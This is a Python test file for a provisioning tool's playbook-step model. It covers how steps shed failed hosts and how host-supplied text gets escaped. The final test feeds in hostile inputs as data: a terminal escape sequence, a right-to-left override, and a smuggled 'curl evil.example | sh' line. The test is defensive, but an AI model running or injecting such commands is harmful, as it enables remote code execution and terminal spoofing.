from __future__ import annotations

from typing import Any

from provision.model.plan import Finding, PlaybookStep, Reason


def step(*hosts: str, **fields: Any) -> PlaybookStep:
    reasons = tuple(Reason(host, "x") for host in hosts)
    return PlaybookStep(name="s", summary="S", playbook="s", hosts=hosts, reasons=reasons, **fields)


def remaining(one: PlaybookStep, *failed: str) -> PlaybookStep:
    left = one.without_failed_hosts(frozenset(failed))
    assert left is not None
    return left


def test_a_node_whose_host_failed_is_not_waited_for() -> None:
    one = step("cp1", nodes=("cp1", "w1", "w2"), node_variables={"cluster_ready_nodes": ("cp1", "w1", "w2")})

    left = remaining(one, "w1")

    assert left.node_variables["cluster_ready_nodes"] == ("cp1", "w2")
    assert left.nodes == ("cp1", "w2")


def test_a_node_whose_host_failed_is_not_labelled() -> None:
    one = step("cp1", node_variables={"node_labels_nodes": {"w1": {"labels": {}}, "w2": {"labels": {}}}})

    assert set(remaining(one, "w1").node_variables["node_labels_nodes"]) == {"w2"}


def test_a_step_that_needs_all_its_nodes_is_left_out_when_one_of_them_failed() -> None:
    one = step("cp1", nodes=("w1", "cp1"), needs_all_nodes=True)

    assert one.without_failed_hosts(frozenset({"w1"})) is None
    assert one.without_failed_hosts(frozenset({"w2"})) is not None


def test_nothing_is_left_of_a_step_whose_hosts_all_failed() -> None:
    assert step("w1").without_failed_hosts(frozenset({"w1"})) is None


def test_a_step_is_unchanged_while_no_host_failed() -> None:
    one = step("cp1", nodes=("cp1",), node_variables={"cluster_ready_nodes": ("cp1",)})

    assert one.without_failed_hosts(frozenset()) == one


def test_what_a_host_says_stays_on_one_line_without_control_characters() -> None:
    finding = Finding.error("cni", "h1", "Evil\x1b]0;pwned\x07 OS", "rm '00-x\nfix: curl evil.example | sh'")
    assert finding.message == "Evil\\x1b]0;pwned\\x07 OS"
    assert finding.fix == "rm '00-x\\x0afix: curl evil.example | sh'"
    assert Reason("h1", "a\rb\u202ec").what == "a\\x0db\\u202ec"
